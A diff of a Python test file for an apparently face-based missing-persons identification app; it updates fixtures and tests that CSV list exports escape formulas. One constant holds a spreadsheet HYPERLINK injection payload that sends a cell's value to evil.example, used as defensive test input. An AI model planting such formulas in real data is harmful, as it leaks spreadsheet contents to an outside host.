@@ -11,11 +11,12 @@ from typing import Any
 
 from fastapi import FastAPI
 from fastapi.testclient import TestClient
+from sqlalchemy import select
 from webtest import client_login, face_images
 
 from facetrace.store.accounts import get_user
 from facetrace.store.audit import list_events
-from facetrace.store.workflow_models import Identification, Lead
+from facetrace.store.workflow_models import Identification, Lead, Notification
 from facetrace.workflow import Workflow
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
@@ -29,7 +30,7 @@ def _signed_in(app: FastAPI, name: str) -> TestClient:
 
 def _records(app: FastAPI, name: str) -> dict[str, Any]:
     """A report with a contact, a case, a lead between them (built without the face pipeline),
-    its identification (evidence and two confirmations) and a draft notification."""
+    its identification (evidence and two confirmations) and the notification it drafted."""
     service = app.state.service
     with service.db.sessions() as session:
         ivan, olena, petro = (get_user(session, n) for n in ("ivan", "olena", "petro"))
@@ -67,16 +68,17 @@ def _records(app: FastAPI, name: str) -> dict[str, Any]:
     wf.reviews.review_lead(olena, lead_id, decision="confirm", rationale="Same scar above the left eye")
     wf.reviews.review_lead(petro, lead_id, decision="confirm", rationale="Ears and scar agree")
     with service.db.sessions() as session:
-        ident = session.query(Identification).filter_by(lead_id=lead_id).one()
-        ident_id = int(ident.id)
-    contact_id = wf.reports.get_report(olena, report["report"]["reference"], audited=False)["contacts"][0]["id"]
-    note = wf.notifications.draft_notification(olena, ident_id, contact_id)
+        ident_id = session.execute(select(Identification.id).where(Identification.lead_id == lead_id)).scalar_one()
+        # The confirmation drafted the family's notification.
+        note_id = session.execute(
+            select(Notification.id).where(Notification.identification_id == ident_id)
+        ).scalar_one()
     return {
         "report": report["report"],
         "case": case,
         "lead_id": lead_id,
         "ident_id": ident_id,
-        "notification_id": note["id"],
+        "notification_id": note_id,
     }
 
 
@@ -166,9 +168,9 @@ def test_audit_page_shows_actions_in_words_with_links(web_app: FastAPI) -> None:
 def test_list_downloads_escape_formulas(web_app: FastAPI) -> None:
     _records(web_app, HOSTILE_NAME)
     olena = _signed_in(web_app, "olena")
-    page = olena.get("/reports", params={"q": "HYPERLINK", "status": "missing"}).text
+    page = olena.get("/reports", params={"q": "HYPERLINK", "status": "identified_deceased"}).text
     link = re.search(r'id="reports-csv" href="([^"]+)"', page)
-    assert link and link.group(1) == "/reports.csv?q=HYPERLINK&amp;status=missing"
+    assert link and link.group(1) == "/reports.csv?q=HYPERLINK&amp;status=identified_deceased"
     rows = _csv_rows(olena.get(link.group(1).replace("&amp;", "&")))
     assert [r["name"] for r in rows] == ["'" + HOSTILE_NAME]
     cases = _csv_rows(olena.get("/cases.csv"))
@@ -177,7 +179,7 @@ def test_list_downloads_escape_formulas(web_app: FastAPI) -> None:
     assert bad.status_code == 422 and "sideways" in bad.text
     with web_app.state.service.db.sessions() as session:
         exports, _ = list_events(session, action="report.list_export", actor="olena")
-    assert exports[0].detail == {"q": "HYPERLINK", "status": "missing", "format": "csv", "rows": 1} | {
+    assert exports[0].detail == {"q": "HYPERLINK", "status": "identified_deceased", "format": "csv", "rows": 1} | {
         "request_id": exports[0].detail["request_id"]
     }
 
